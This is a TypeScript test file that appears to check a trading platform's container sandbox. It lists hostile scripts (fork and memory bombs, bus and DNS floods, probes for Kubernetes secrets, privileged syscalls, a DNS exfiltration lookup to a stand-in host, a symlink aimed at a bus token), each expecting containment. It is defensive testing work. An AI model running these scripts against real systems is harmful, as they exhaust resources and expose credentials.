// What a hostile algorithm may try, run in the container that algorithms run in: as text, in the language of the image.

export interface Attack {
  readonly name: string;
  readonly container: "algorithm" | "executor";
  /** Python for `algorithm`, JavaScript for `executor`; the last line that it prints is its answer. */
  readonly script: string;
  /** What the answer must be, or how the process must end. */
  readonly answer: RegExp;
  /** What it costs the attacker: nothing, its container, its pod, or its place on the bus, for longer each time. */
  readonly costs?: "container" | "pod" | "place on the bus";
}

/** Prints the name of an error instead of throwing it. */
const py = (body: string): string => `
import os, sys, socket, time
def tried(work):
    try:
        return work()
    except OSError as cause:
        import errno
        return errno.errorcode.get(cause.errno, type(cause).__name__)
${body}
`;

const js = (body: string): string =>
  `const fs = require("node:fs"), net = require("node:net"), tried = (work) => { try { return work(); } catch (cause) { return cause.code; } };
(async () => { ${body} })();`;

/**
 * What an algorithm inside its executor can do with the executor's own login: ask for orders as fast as it can write, without an end.
 *
 * @param isDeaf whether it also asks for all answers and quotes, and never reads one
 */
const flood = (isDeaf: boolean): string => `
const text = (value) => { const bytes = Buffer.from(value); return Buffer.concat([Buffer.from([bytes.length >> 8, bytes.length & 255]), bytes]); };
const packet = (head, ...parts) => {
  const body = Buffer.concat(parts), length = [];
  for (let rest = body.length; ; ) { const low = rest & 127; rest >>= 7; length.push(rest > 0 ? low | 128 : low); if (rest === 0) break; }
  return Buffer.concat([Buffer.from([head, ...length]), body]);
};
const account = [process.env.SLIPWAY_NAMESPACE, process.env.SLIPWAY_SERVICE_ACCOUNT], own = "strat/" + process.env.SLIPWAY_STRATEGY;
const token = fs.readFileSync(process.env.SLIPWAY_BUS_TOKEN_FILE, "utf8").trim(), bus = new URL(process.env.SLIPWAY_BUS_URL);
const hello = packet(0x10, text("MQTT"), Buffer.from([4, 0xc2, 0, 60]), text(account.join("_")), text(account.join("/")), text(token));
const listen = packet(0x82, Buffer.from([0, 1]), text(own + "/order/event"), Buffer.from([1]), text("md/+/AAPL/quote"), Buffer.from([0]));
const orders = Buffer.concat(Array.from({ length: 50 }, () => packet(0x30, text(own + "/order/request"), Buffer.from("x".repeat(200)))));
const end = Date.now() + 8000;
let sent = 0;
while (Date.now() < end) {
  await new Promise((resolve) => {
    const link = net.connect(Number(bus.port), bus.hostname);
    const timer = setTimeout(() => link.destroy(), end - Date.now());
    link.on("error", () => undefined).on("close", () => { clearTimeout(timer); setTimeout(resolve, 50); });
    const go = () => { while (!link.destroyed && Date.now() < end) { sent += 50; if (!link.write(orders)) return void link.once("drain", () => setImmediate(go)); } };
    link.write(hello);
    if (${isDeaf}) { link.write(listen); link.pause(); setTimeout(go, 300); } else { link.once("data", go); link.resume(); }
  });
}
console.log("sent", sent > 500);`;

export const attacks: readonly Attack[] = [
  {
    name: "fork bomb",
    container: "algorithm",
    script: py(`
children = []
why = ""
while len(children) < 5000:
    try:
        child = os.fork()
    except OSError as cause:
        why = str(cause.errno)
        break
    if child == 0:
        time.sleep(60)
        os._exit(0)
    children.append(child)
# What nobody waits for would be a zombie of the server's, and count until its end.
for child in children:
    os.kill(child, 9)
    os.waitpid(child, 0)
print("stopped by", why, "after", len(children), "processes")
`),
    // Of children as large as these the container's memory is spent first, as a rule.
    answer: /^stopped by (?:11|12) after \d{1,3} processes|code 137/,
    costs: "container",
  },
  {
    name: "thread bomb",
    container: "algorithm",
    script: py(`
import threading
threading.stack_size(32 * 1024)
end = threading.Event()
count = 0
try:
    while count < 5000:
        threading.Thread(target=end.wait, daemon=True).start()
        count += 1
except RuntimeError as cause:
    print(cause, count < 512, flush=True)
os._exit(0)
`),
    answer: /^can't start new thread True$|code 137/,
    costs: "container",
  },
  {
    name: "memory bomb",
    container: "algorithm",
    script: py(`
held = []
while True:
    held.append(bytearray(8 * 2 ** 20))
`),
    answer: /code 137/,
    costs: "container",
  },
  {
    name: "memory bomb in the executor",
    container: "executor",
    script: js("const held = []; for (;;) held.push(Buffer.alloc(8 * 2 ** 20, 1));"),
    answer: /code 13[47]/,
    costs: "container",
  },
  {
    name: "CPU spin",
    container: "algorithm",
    script: py(`
for number in range(8):
    if os.fork() == 0:
        end = time.time() + 8
        while time.time() < end:
            pass
        os._exit(0)
for number in range(8):
    os.wait()
text = open("/sys/fs/cgroup/cpu/cpu.stat" if os.path.exists("/sys/fs/cgroup/cpu/cpu.stat") else "/sys/fs/cgroup/cpu.stat").read()
throttled = int(text.split("nr_throttled ")[1].split()[0])
print("throttled" if throttled > 20 else "not throttled: " + str(throttled))
`),
    answer: /^throttled$/,
  },
  {
    name: "writing outside its folders",
    container: "algorithm",
    script: py(`
paths = ["/x", "/usr/x", "/etc/passwd", "/opt/algorithm/x", "/opt/slipway/x", "/proc/sys/kernel/core_pattern", "/sys/fs/cgroup/x", "/dev/x", "/var/lib/slipway/x"]
print([path for path in paths if tried(lambda: open(path, "w")) not in ("EROFS", "EACCES", "EPERM", "ENOENT")])
`),
    answer: /^\[\]$/,
  },
  {
    name: "reading others' tokens and secrets",
    container: "algorithm",
    script: py(`
paths = ["/var/run/secrets", "/var/lib/slipway", "/etc/slipway/spec", "/proc/1/root/var/run/secrets", "/run/containerd", "/var/lib/kubelet", "/etc/kubernetes"]
print([path for path in paths if os.path.exists(path)], [name for name in os.environ if "TOKEN" in name or "SECRET" in name])
`),
    answer: /^\[\] \[\]$/,
  },
  {
    name: "seeing and signalling the executor",
    container: "algorithm",
    script: py(`
programs = set()
for name in os.listdir("/proc"):
    if name.isdigit():
        try:
            programs.add(open("/proc/" + name + "/cmdline").read().split("\\0")[0].split("/")[-1])
        except OSError:
            pass
print(sorted(programs - {"python3", "python3.11", ""}), [tried(lambda: os.kill(pid, 0)) for pid in range(2, 400) if not os.path.exists("/proc/" + str(pid)) and tried(lambda: os.kill(pid, 0)) != "ESRCH"])
`),
    answer: /^\[\] \[\]$/,
  },
  {
    name: "raw sockets, packets, and the kernel's other doors",
    container: "algorithm",
    script: py(`
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def syscall(number, *arguments):
    result = libc.syscall(number, *arguments)
    return "allowed" if result >= 0 else __import__("errno").errorcode[ctypes.get_errno()]
doors = {
    "raw": tried(lambda: str(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))),
    "packet": tried(lambda: str(socket.socket(socket.AF_PACKET, socket.SOCK_RAW))),
    "low port": tried(lambda: socket.socket().bind(("0.0.0.0", 80)) or "allowed") if open("/proc/sys/net/ipv4/ip_unprivileged_port_start").read().strip() != "0" else "EACCES",
    "mount": syscall(165, None, b"/tmp", b"tmpfs", 0, None),
    "unshare": syscall(272, 0x10000000),
    "bpf": syscall(321, 0, 0, 0),
    "keyctl": syscall(250, 0, -3, 0),
    "init_module": syscall(175, 0, 0, 0),
    "setuid": tried(lambda: os.setuid(0) or "allowed"),
    "chroot": tried(lambda: os.chroot("/tmp") or "allowed"),
    "perf": syscall(298, 0, 0, -1, -1, 0),
    "reboot": syscall(169, 0xfee1dead, 672274793, 0x1234567),
}
print({name: answer for name, answer in doors.items() if answer not in ("EPERM", "EACCES", "ENOSYS", "EAFNOSUPPORT")})
`),
    answer: /^\{\}$/,
  },
  {
    name: "DNS exfiltration",
    container: "algorithm",
    script: py(`
names = ["c2VjcmV0.exfil.example.com", "169.254.169.254.nip.io", "metadata.google.internal"]
print([name for name in names if isinstance(tried(lambda: socket.getaddrinfo(name, 443)), list)])
`),
    answer: /^\[\]$/,
  },
  {
    name: "a flood of connections to the bus, without a token",
    container: "algorithm",
    script: py(`
refused = opened = 0
end = time.time() + 8
while time.time() < end:
    try:
        link = socket.create_connection(("bus.slipway-paper.svc", 1883), 2)
        link.sendall(b"\\x10\\x1a\\x00\\x04MQTT\\x04\\xc2\\x00\\x3c\\x00\\x01x\\x00\\x04evil\\x00\\x05wrong"[:2 + 26])
        opened += 1
        link.close()
    except OSError:
        refused += 1
print("flooded", opened > 20)
`),
    answer: /^flooded True$/,
  },
  {
    name: "a flood of its log",
    container: "algorithm",
    script: py(`
line = b"x" * 1023 + b"\\n"
written = 0
end = time.time() + 8
try:
    out = os.open("/proc/1/fd/1", os.O_WRONLY)
    while time.time() < end and written < 40 * 2 ** 20:
        written += os.write(out, line)
except OSError as cause:
    print("EACCES" if cause.errno == 13 else cause)
print("flooded", written >= 2 ** 20)
`),
    answer: /^flooded True$/,
  },
  {
    name: "file descriptors",
    container: "executor",
    script: js(
      'const open = []; let why; try { for (;;) open.push(fs.openSync("/dev/null")); } catch (cause) { why = cause.code; } console.log(why, open.length <= 1_048_576);',
    ),
    // Where a process may have a million of them, its container's memory is spent first.
    answer: /^(?:EMFILE|ENFILE) true$|code 13[47]/,
    costs: "container",
  },
  {
    name: "file descriptors in Python",
    container: "algorithm",
    script: py(`
held = []
why = ""
try:
    while len(held) < 2 ** 21:
        held.append(os.open("/dev/null", os.O_RDONLY))
except OSError as cause:
    why = str(cause.errno)
print(why, len(held) <= 2 ** 20, flush=True)
os._exit(0)
`),
    answer: /^(?:23|24) True$|code 137/,
    costs: "container",
  },
  {
    name: "inodes",
    container: "algorithm",
    script: py(`
made = 0
end = time.time() + 15
try:
    while time.time() < end and made < 300000:
        os.close(os.open("/tmp/%x" % made, os.O_CREAT | os.O_WRONLY, 0o600))
        made += 1
except OSError as cause:
    print(cause)
# A folder never gets smaller: what it weighs stays, and counts against the size limit of its volume.
size = os.stat("/tmp").st_size
for number in range(made):
    os.unlink("/tmp/%x" % number)
print("made", made > 1000, "of which each weighs", size // max(made, 1), "bytes")
`),
    answer: /^made True of which each weighs (?:[1-9]|[1-9]\d) bytes|code 137|error|not found/,
  },
  {
    name: "a flood of DNS",
    container: "algorithm",
    script: py(`
import random
resolver = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")][0]
link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
link.setblocking(False)
asked = 0
end = time.time() + 8
while time.time() < end:
    name = b"".join(bytes([len(part)]) + part for part in (b"%x" % random.getrandbits(60), b"example", b"com"))
    try:
        link.sendto(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + name + b"\\0\\0\\1\\0\\1", (resolver, 53))
        asked += 1
    except OSError:
        pass
print("asked", asked > 100)
`),
    answer: /^asked True$/,
  },
  {
    name: "a flood of the bus, with its own token",
    container: "executor",
    script: js(flood(false)),
    answer: /^sent true$/,
    costs: "place on the bus",
  },
  {
    name: "a slow reader, with its own token",
    container: "executor",
    script: js(flood(true)),
    answer: /^sent true$/,
    costs: "place on the bus",
  },
  {
    name: "a full disk",
    container: "algorithm",
    script: py(`
block = b"x" * 2 ** 20
try:
    with open("/tmp/fill", "wb") as file:
        for number in range(400):
            file.write(block)
            file.flush()
            time.sleep(0.01)
except OSError as cause:
    print("stopped", cause.errno)
time.sleep(90)
print("never stopped")
`),
    // Not at once: the kubelet looks every ten seconds or so.
    answer: /code 137|stopped 28|never stopped|error|not found/,
    costs: "pod",
  },
  {
    name: "tricks in the shared folder",
    container: "algorithm",
    script: py(`
place = "/run/slipway/algorithm.sock"
os.rename(place, place + ".old")
os.symlink("/var/run/secrets/slipway/bus/token", place)
os.symlink("/etc/passwd", "/run/slipway/link")
tried(lambda: os.mkfifo("/run/slipway/fifo"))
print(tried(lambda: open(place).read()))
`),
    answer: /^(?:ENOENT|EACCES)$/,
  },
];
